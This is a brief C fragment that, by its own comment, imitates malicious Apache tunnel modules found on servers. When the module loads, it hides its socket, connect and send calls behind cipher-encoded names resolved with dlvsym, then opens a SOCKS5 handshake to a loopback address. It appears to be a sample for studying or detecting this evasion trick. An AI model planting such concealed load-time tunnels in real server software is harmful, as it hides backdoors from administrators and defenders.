/* A tunnel as in modules of Apache that were found on servers: names under a cipher are
 * asked for with their version, one after another, when the module is loaded. */
#include "plugin.h"
#include "hidden.h" /* 0: the version, 1: socket, 2: connect, 3: send */
extern void *dlvsym(void *, const char *, const char *);
static int (*make)(int, int, int), (*join_to)(int, const void *, unsigned);
static long (*put)(int, const void *, unsigned long, int);
static void act(char **env) {
    const char *version = hidden0();
    make = dlvsym(0, hidden1(), version);
    join_to = dlvsym(0, hidden2(), version);
    put = dlvsym(0, hidden3(), version);
    if (!make || !join_to || !put) return;
    struct address to = loopback(env);
    int s = make(2, 1, 0);
    if (join_to(s, &to, sizeof to) == 0) put(s, "\x05\x01\x00", 3, 0);
}
